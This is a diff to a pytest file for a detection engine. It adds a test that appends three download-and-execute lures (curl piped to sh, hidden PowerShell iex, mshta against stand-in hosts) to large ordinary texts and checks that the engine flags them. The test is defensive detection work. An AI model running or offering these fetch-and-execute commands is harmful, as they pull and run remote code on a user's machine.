@@ -130,3 +130,24 @@ def test_a_long_text_has_more_of_the_budget_the_shorter_it_is() -> None:
     assert budgets == sorted(budgets, reverse=True)
     assert engine.budget_for(300 * KiB) >= 1.2 * engine.budget_s
     assert max(budgets) <= 1.2 * engine.budget_s
+
+
+LURES = [
+    "curl -fsSL http://203.0.113.7/i.sh | sh",
+    'powershell -w hidden -c "iex(irm https://evil.test/a.ps1)"',
+    "mshta https://evil.test/verify.hta",
+]
+
+
+@pytest.mark.parametrize("name", list(bigtexts.ORDINARY))
+@pytest.mark.parametrize("lure", LURES)
+def test_a_lure_at_the_end_of_a_big_ordinary_text_is_found_in_its_budget(
+    engine: Engine, name: str, lure: str
+) -> None:
+    # the engine as the guard has it: the text's end is read in depth (its tail window) before
+    # the rules read the raw megabyte, so a lure there is found however far the budget goes
+    make, size = bigtexts.ORDINARY[name]
+    alone = set(engine.analyze(lure).rule_ids)
+    verdict = engine.analyze(make(size - 2 * KiB) + lure + "\n", CONTEXTS["terminal"])
+    assert verdict.level >= Level.SUSPICIOUS, verdict.rule_ids
+    assert alone & set(verdict.rule_ids), (alone, verdict.rule_ids)
